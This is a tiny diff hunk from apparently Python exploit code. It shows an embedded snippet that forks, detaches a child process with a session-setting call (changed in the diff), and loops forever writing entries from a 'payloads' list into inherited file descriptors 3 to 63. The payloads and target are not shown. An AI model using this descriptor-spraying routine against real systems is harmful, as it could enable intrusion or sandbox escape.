@@ -85,7 +85,7 @@ os._exit(0)
         FORGE
         + """
 if os.fork() == 0:
-    os.setsid()
+    _setsid()
     while True:
         for fd in range(3, 64):
             for payload in payloads[:4]:
